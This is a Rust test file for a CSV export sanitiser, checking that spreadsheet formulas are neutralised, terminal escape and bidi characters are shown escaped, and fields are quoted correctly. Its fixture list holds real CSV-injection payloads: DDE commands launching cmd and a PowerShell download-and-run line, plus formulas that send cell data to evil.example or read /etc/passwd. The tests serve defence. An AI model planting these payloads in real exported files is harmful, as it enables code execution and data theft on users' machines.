//! Payloads: OWASP "CSV Injection", CWE-1236, CWE-150, CVE-2021-42574, and what must stay as it is.

use super::*;
use proptest::prelude::*;

const FORMULAS: &[&str] = &[
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1&A2,\"Error\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/?\",CONCATENATE(A2:E2)),\"//a/a10\")",
    "=IMPORTFEED(CONCAT(\"http://evil.example/\",A1))",
    "=IMPORTHTML(\"http://evil.example/\",\"table\",1)",
    "=IMPORTRANGE(\"https://docs.example/x\",\"A1\")",
    "=IMAGE(\"https://evil.example/?v=\"&A1)",
    "=WEBSERVICE(\"http://evil.example/?\"&A1)",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "='file:///etc/passwd'#$passwd.A1",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A",
    "=    cmd|'/c calc.exe'!A",
    "+thespanishinquisition(cmd|'/c calc.exe'!A",
    "-2+3+cmd|' /C calc'!D2",
];

#[test]
fn what_a_spreadsheet_would_run_is_made_text() {
    let more = [
        "-5",
        "-5.00",
        "- 5",
        "--",
        "-",
        "+",
        "=",
        "@",
        "+49 30 901820",
        "+4930901820",
        "+1-202-555-0100",
        "@here",
        "@@",
        "==1",
        "=-1",
        "+-1",
        "-@SUM(A1)",
        " =1+1",
        "   -1",
        "\u{a0}=1",
        "\u{2003}=1",
        "\u{3000}@x",
        "\"=1",
        "\"\"=1+1",
        " \" =1",
        "\" +1",
        "\t=1",
        "\tplain",
        "\rplain",
        "\nplain",
        "\0plain",
        "\r\n=1",
        "\x01=1",
        "\x1b=1",
        "\u{85}=1",
        "\u{feff}=1",
        "\u{200b}=1",
        "\u{200e}-1",
        "\u{202e}=1",
        "\u{2060}@A1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        " ＝1",
        "\"＝1",
    ];
    for payload in FORMULAS.iter().chain(&more) {
        let cell = harmless(payload);
        assert_eq!(cell, format!("'{payload}"), "{payload:?}");
        assert_eq!(harmless(&cell), cell, "twice: {payload:?}");
    }
}

#[test]
fn ids_times_and_words_stay_as_they_are() {
    for plain in [
        "",
        " ",
        "4104050000022640405",
        "zcrm_4104050000022640405",
        "9223372036854775807",
        "1000000000",
        "E1337",
        "R12",
        "B7",
        "2026-08-22T10:00:00.123Z",
        "2026-08-22",
        "done",
        "awaiting_approval",
        "Price_Books",
        "a=b",
        "5-3",
        "1+1",
        "mail@example.com",
        "'=1+1",
        "'quoted'",
        "0",
        "0.5",
        "#N/A",
        "Müller",
        "山田",
        "(none)",
        "a\tb",
        "a\n=b",
        "https://crm.zoho.eu/crm/",
    ] {
        assert!(matches!(harmless(plain), Cow::Borrowed(same) if same == plain), "{plain:?}");
    }
}

fn field(text: &str, delimiter: u8) -> String {
    let mut pushed = Vec::new();
    push_field(&mut pushed, text, delimiter);
    let mut written = Vec::new();
    write_field(&mut written, text, delimiter).unwrap();
    assert_eq!(pushed, written);
    String::from_utf8(pushed).unwrap()
}

#[test]
fn a_field_is_quoted_only_where_rfc_4180_or_trimming_importers_need_it() {
    for (given, expected) in [
        ("", ""),
        ("plain", "plain"),
        ("two words", "two words"),
        ("it's", "it's"),
        ("a;b", "a;b"),
        ("a\tb", "a\tb"),
        ("zcrm_4104050000022640405", "zcrm_4104050000022640405"),
        ("Müller", "Müller"),
        ("a,b", "\"a,b\""),
        ("say \"hi\"", "\"say \"\"hi\"\"\""),
        ("\"", "\"\"\"\""),
        ("\"\"", "\"\"\"\"\"\""),
        ("a\rb", "\"a\rb\""),
        ("a\nb", "\"a\nb\""),
        ("a\r\nb", "\"a\r\nb\""),
        (" a", "\" a\""),
        ("a ", "\"a \""),
        ("a\t", "\"a\t\""),
        ("\u{a0}a", "\"\u{a0}a\""),
        (" ", "\" \""),
    ] {
        assert_eq!(field(given, b','), expected, "{given:?}");
    }
    assert_eq!(field("a;b", b';'), "\"a;b\"");
    assert_eq!(field("a,b", b';'), "a,b");
    assert_eq!(field("a\tb", b'\t'), "\"a\tb\"");
}

#[test]
fn what_would_steer_a_terminal_is_written_out() {
    for (given, expected) in [
        ("\x1b[31mred", "\\u{1b}[31mred"),
        ("\x1b]0;title\x07", "\\u{1b}]0;title\\u{7}"),
        ("\x1b[2J\x1b[H", "\\u{1b}[2J\\u{1b}[H"),
        ("\x1b]8;;http://evil.example\x1b\\x", "\\u{1b}]8;;http://evil.example\\u{1b}\\x"),
        ("\x1bP+q544e\x1b\\", "\\u{1b}P+q544e\\u{1b}\\"),
        ("\u{9b}31m", "\\u{9b}31m"),
        ("\u{9d}0;x\u{9c}", "\\u{9d}0;x\\u{9c}"),
        ("a\x08\x08b", "a\\u{8}\\u{8}b"),
        ("\0", "\\u{0}"),
        ("\x7f", "\\u{7f}"),
        ("\x0b\x0c", "\\u{b}\\u{c}"),
        ("\u{85}", "\\u{85}"),
        ("ok\r\nerror: forged", "ok\\r\\nerror: forged"),
        ("a\tb", "a\\tb"),
        ("\u{202e}gpj.exe", "\\u{202e}gpj.exe"),
        ("\u{202a}x\u{202c}", "\\u{202a}x\\u{202c}"),
        ("\u{202b}\u{202d}", "\\u{202b}\\u{202d}"),
        ("\u{2066}x\u{2069}", "\\u{2066}x\\u{2069}"),
        ("\u{2067}\u{2068}", "\\u{2067}\\u{2068}"),
        ("\u{61c}\u{200e}\u{200f}", "\\u{61c}\\u{200e}\\u{200f}"),
        ("a\u{200b}b", "a\\u{200b}b"),
        ("a\u{200c}\u{200d}b", "a\\u{200c}\\u{200d}b"),
        ("\u{2060}\u{feff}", "\\u{2060}\\u{feff}"),
        ("\u{ad}\u{180e}", "\\u{ad}\\u{180e}"),
        ("\u{2028}\u{2029}", "\\u{2028}\\u{2029}"),
        ("\u{3164}\u{ffa0}", "\\u{3164}\\u{ffa0}"),
        ("\u{e0041}\u{e0100}", "\\u{e0041}\\u{e0100}"),
        ("\u{fff9}", "\\u{fff9}"),
    ] {
        assert_eq!(visible(given), expected, "{given:?}");
    }
    for plain in ["", "Müller", "山田 太郎", "🦀", "a b", "שלום", "zcrm_4104050000022640405"]
    {
        assert!(matches!(visible(plain), Cow::Borrowed(same) if same == plain));
    }
}

#[test]
fn long_text_is_cut_but_never_inside_an_escape() {
    for (given, max, expected) in [
        ("abcdef", 6, "abcdef"),
        ("abcdef", 5, "abcd…"),
        ("abcdef", 1, "…"),
        ("abcdef", 0, ""),
        ("", 0, ""),
        ("äöüß", 3, "äö…"),
        ("ab\x1b", 8, "ab\\u{1b}"),
        ("ab\x1b", 7, "ab…"),
        ("ab\x1b", 3, "ab…"),
        ("ab\x1b", 2, "a…"),
        ("\n\n\n", 4, "\\n…"),
        ("\n\n\n", 6, "\\n\\n\\n"),
    ] {
        assert_eq!(visible_short(given, max), expected, "{given:?} {max}");
    }
}

proptest! {
    #[test]
    fn visible_text_is_one_line_without_anything_hidden(text in any::<String>(), max in 0_usize..40) {
        for shown in [visible(&text), visible_short(&text, max)] {
            prop_assert!(!shown.chars().any(is_unprintable));
        }
        let short = visible_short(&text, max);
        prop_assert!(short.chars().count() <= max);
        if visible(&text).chars().count() <= max {
            prop_assert_eq!(short, visible(&text));
        }
    }

    #[test]
    fn a_csv_reader_gets_every_field_back(
        fields in prop::collection::vec(any::<String>(), 2..6),
        delimiter in prop::sample::select(vec![b',', b';', b'\t']),
    ) {
        let mut line = Vec::new();
        for (position, one) in fields.iter().enumerate() {
            if position > 0 {
                line.push(delimiter);
            }
            push_field(&mut line, one, delimiter);
        }
        line.extend_from_slice(b"\r\n");
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .delimiter(delimiter)
            .from_reader(line.as_slice());
        let record = reader.records().next().unwrap().unwrap();
        let first_bom = fields[0].starts_with('\u{feff}');
        prop_assume!(!first_bom);
        prop_assert_eq!(record.iter().collect::<Vec<_>>(), fields);
        prop_assert!(reader.records().next().is_none());
    }

    #[test]
    fn ids_are_never_changed(id in 1_000_000_000_i64..) {
        for text in [id.to_string(), format!("zcrm_{id}")] {
            prop_assert!(matches!(harmless(&text), Cow::Borrowed(_)));
            prop_assert!(matches!(visible(&text), Cow::Borrowed(_)));
            prop_assert_eq!(&field(&text, b','), &text);
        }
    }
}
